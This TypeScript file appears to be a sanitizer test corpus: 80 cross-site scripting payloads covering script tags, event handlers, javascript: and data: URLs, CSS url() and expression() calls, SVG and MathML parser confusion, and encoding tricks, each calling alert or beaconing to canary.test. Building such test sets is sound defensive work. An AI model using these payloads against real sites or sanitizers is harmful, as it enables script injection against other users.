/**
 * Eighty ways to run a script, or to be called back, from HTML that is shown to somebody else: what is publicly known
 * of filters that were got round. Each would set a flag on the page, open a dialog or ask for something of `canary.test`.
 */
const RUN = "top.__ran=1;alert(1);fetch('https://canary.test/run')";
const CALL = 'https://canary.test/call';
const data = (html: string) => `data:text/html;base64,${Buffer.from(html).toString('base64')}`;
const entities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`;

const elements = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${CALL}.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`.replace('\u0000', '\u0020/'),
  `<script type="module">import '${CALL}.mjs'</script>`,
  `<<script>${RUN}//<</script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${data(`<script>${RUN}</script>`)}"></iframe>`,
  `<iframe src="${CALL}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${data(`<script>${RUN}</script>`)}" type="text/html"></object>`,
  `<embed src="${data(SVG)}">`,
  `<embed src="${CALL}">`,
  `<applet code="${CALL}.class"></applet>`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<base href="https://canary.test/"><img src="call"><a href="x">y</a>`,
  `<meta http-equiv="refresh" content="0;url=${CALL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="${CALL}.css">`,
  `<link rel="prefetch" href="${CALL}"><link rel="dns-prefetch" href="//canary.test">`,
  `<form action="${CALL}"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<input type="image" src="${CALL}" onerror="${RUN}">`,
  `<isindex type=image src=1 onerror="${RUN}">`,
  `<video src="${CALL}.mp4" onerror="${RUN}" autoplay></video>`,
  `<video poster="${CALL}.png"><source onerror="${RUN}"></video>`,
  `<audio src="${CALL}.ogg" autoplay onloadstart="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog>`,
];

const handlers = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${entities(RUN)}>`,
  `<img/src=x/onerror="${RUN}">`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img """><script>${RUN}</script>">`,
  `<IMG SRC=x oNeRrOr="${RUN}">`,
  `<img src=x\u000aonerror\u000a=\u000a"${RUN}">`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}" onhashchange="${RUN}">`,
  `<div onmouseover="${RUN}" style="width:999px;height:999px">x</div>`,
  `<div onanimationstart="${RUN}" style="animation:x 1s"><style>@keyframes x{}</style></div>`,
  `<p tabindex=1 autofocus onfocus="${RUN}" contenteditable>x</p>`,
  `<a onclick="${RUN}" href="#">x</a>`,
  `<b onpointerrawupdate="${RUN}" onbeforeinput="${RUN}">x</b>`,
  `<custom-element onconnected="${RUN}" is="x-y">x</custom-element>`,
];

const addresses = [
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="jav\u000aascript:${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${RUN}">x</a>`,
  `<a href="\u2028javascript:${RUN}">x</a>`,
  `<a href="${data(`<script>${RUN}</script>`)}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="feed:javascript:${RUN}">x</a>`,
  `<a href="view-source:javascript:${RUN}" ping="${CALL}">x</a>`,
  `<img src="javascript:${RUN}" lowsrc="javascript:${RUN}" dynsrc="${CALL}">`,
  `<img src="${CALL}.png" srcset="${CALL}-2.png 2x" width=1 height=1>`,
  `<picture><source srcset="${CALL}.webp"><img src="//canary.test/call.gif"></picture>`,
  `<img src="data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}">`,
  `<table background="${CALL}.png"><td background="javascript:${RUN}">x</td></table>`,
  `<img usemap="#m"><map name="m"><area shape=default href="javascript:${RUN}"></map>`,
];

const styles = [
  `<style>@import '${CALL}.css'; body{background:url(${CALL})}</style>`,
  `<div style="background-image:url(${CALL})">x</div>`,
  `<div style="background:u\\72l(${CALL})">x</div>`,
  `<div style="width:expression(${RUN});behavior:url(${CALL});-moz-binding:url(${CALL})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9;color:red;list-style:url(${CALL});cursor:url(${CALL}),auto">x</div>`,
  `<div style="font-family:'x';} @font-face{src:url(${CALL})">x</div>`,
  `<xss style="content:url(${CALL});border-image:image-set('${CALL}' 1x)">x</xss>`,
];

const confusions = [
  `<svg onload="${RUN}">`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="${CALL}.svg#x"/><image href="${CALL}.png"/><foreignObject><iframe onload="${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}"><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template><template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>"></xmp><plaintext><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror="${RUN}">--><![CDATA[><img src=x onerror="${RUN}">]]><?x ><img src=x onerror="${RUN}">?>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e \u003cimg src=x onerror\u2028="${RUN}"> +ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

export const scriptAttempts: readonly string[] = [
  ...elements,
  ...handlers,
  ...addresses,
  ...styles,
  ...confusions,
];
